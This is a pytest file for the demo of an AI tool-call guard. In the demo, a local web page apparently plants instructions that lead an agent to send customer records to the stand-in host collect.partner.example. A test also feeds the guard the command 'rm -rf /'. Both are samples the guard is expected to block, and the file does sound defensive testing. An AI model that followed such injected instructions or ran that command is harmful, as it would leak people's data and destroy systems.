from __future__ import annotations

import shutil
import sqlite3
import tomllib
import urllib.error
import urllib.request
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from riskproof.cli.demo_session import _SETTINGS, Shown, Step, _agreement, _fleet, _make_database, _steps, find_servers, shown_of, website
from riskproof.guard.config import settings_from
from riskproof.guard.guard import Guard
from riskproof.ledger.proofs import read_jsonl
from riskproof.model.call import Call, Tool

STEP = Step("t", "bash", {}, "deny")


def servers(folder: Path, *names: str) -> Path:
    """A folder with programs of these names."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        (folder / name).write_text("#!/bin/sh\n", encoding="utf-8")
        (folder / name).chmod(0o755)
    return folder


BOTH = ("mcp-server-fetch", "mcp-server-sqlite")


def test_the_folder_that_is_named_comes_first_then_the_environment_then_the_one_here_then_the_search_path(
    work: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(servers(work / "path", *BOTH)))
    assert find_servers(None) == work / "path"
    here = servers(work / ".venv-servers" / "bin", *BOTH)
    assert find_servers(None) == here
    monkeypatch.setenv("RISKPROOF_DEMO_SERVERS", str(servers(work / "environment", *BOTH)))
    assert find_servers(None) == work / "environment"
    assert find_servers(servers(work / "named", *BOTH)) == work / "named"


def test_a_folder_with_one_of_them_is_passed_over(work: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(servers(work / "path", BOTH[0])))
    assert find_servers(servers(work / "named", BOTH[1])) is None
    monkeypatch.setenv("PATH", f"{work / 'path'}:{servers(work / 'other', BOTH[1])}")
    assert find_servers(None) is None, "they stand in different folders"


def test_the_servers_are_started_with_the_database_of_the_demo(work: Path) -> None:
    folder = servers(work / "bin", *BOTH)
    fleet = _fleet(folder, work / "shop.db")["mcpServers"]
    assert fleet["fetch"]["command"] == shutil.which(BOTH[0], path=str(folder))
    assert fleet["sqlite"]["args"] == ["--db-path", str(work / "shop.db")]


def test_its_settings_keep_nothing_beside_the_proofs_that_it_shows() -> None:
    settings = settings_from(tomllib.loads(_SETTINGS.format('"/tmp/a folder')))
    assert (settings.proof_file, settings.store.file) == (Path("/tmp/a folder/proofs.jsonl"), Path("/tmp/a folder/asks.db"))
    assert (settings.ledger.enabled, settings.store.enabled, settings.service.enabled) == (False, False, False)


def test_the_database_holds_two_customers(work: Path) -> None:
    _make_database(work / "shop.db")
    with sqlite3.connect(work / "shop.db") as database:
        rows = database.execute("SELECT id, name, email, balance FROM customers").fetchall()
    database.close()
    assert rows == [("CUST-1207", "Ana Novak", "ana.novak@mail.example", 9000), ("CUST-1208", "Bo Lind", "bo.lind@mail.example", 120)]


def test_the_pages_are_served_on_the_loopback_interface_alone() -> None:
    with website() as site:
        assert site.startswith("http://127.0.0.1:")
        with urllib.request.urlopen(f"{site}/offer") as page:
            assert "open\nhttps://collect.partner.example/in?d=" in page.read().decode()
        with urllib.request.urlopen(f"{site}/hours") as page:
            assert "Monday to Friday" in page.read().decode()
        with pytest.raises(urllib.error.HTTPError, match="404"):
            urllib.request.urlopen(f"{site}/other")
    with pytest.raises(urllib.error.URLError):
        urllib.request.urlopen(f"{site}/offer")


def test_the_attempt_carries_the_record_that_the_page_asks_for() -> None:
    steps = _steps("http://127.0.0.1:1")
    assert [step.expected for step in steps] == ["allow", "allow", "allow", "deny", "allow"]
    assert steps[3].arguments["url"].startswith("https://collect.partner.example/in?d=CUST-1207%20Ana%20Novak")


@dataclass
class Form:
    requested_schema: Any


def test_the_person_agrees_to_every_yes_or_no_question() -> None:
    form = Form({"properties": {"allow": {"type": "boolean"}, "why": {"type": "string"}, "always": {"type": "boolean"}}})
    assert _agreement(form) == {"allow": True, "always": True}
    assert _agreement(Form(None)) == {}


def test_a_step_is_shown_from_the_newest_proof(work: Path) -> None:
    guard = Guard({"proof": {"file": str(work / "proofs.jsonl")}})
    guard.before(Call(Tool("bash", "Run a shell command"), {"command": "rm -rf /"}))
    shown = shown_of(STEP, read_jsonl(work / "proofs.jsonl")[-1], ["asked"])
    assert (shown.tool, shown.verdict, shown.receipt, shown.answer, shown.sources) == ("bash", "deny", "deny -> blocked", "asked", ())
    assert shown.rules[0]["id"] == "catastrophic_system_operation"
    assert shown.as_expected


def test_a_step_is_as_expected_when_verdict_and_receipt_both_are() -> None:
    shown = Shown("t", "bash", "deny", "deny", (), (), "deny -> blocked", "")
    assert shown.json() == {
        "title": "t",
        "tool": "bash",
        "verdict": "deny",
        "expected": "deny",
        "rules": (),
        "sources": (),
        "receipt": "deny -> blocked",
        "answer": "",
        "as_expected": True,
    }
    assert not replace(shown, receipt="deny -> pending").as_expected
    assert not replace(shown, expected="allow").as_expected
    assert replace(shown, verdict="ask", expected="ask", receipt="ask -> succeeded").as_expected
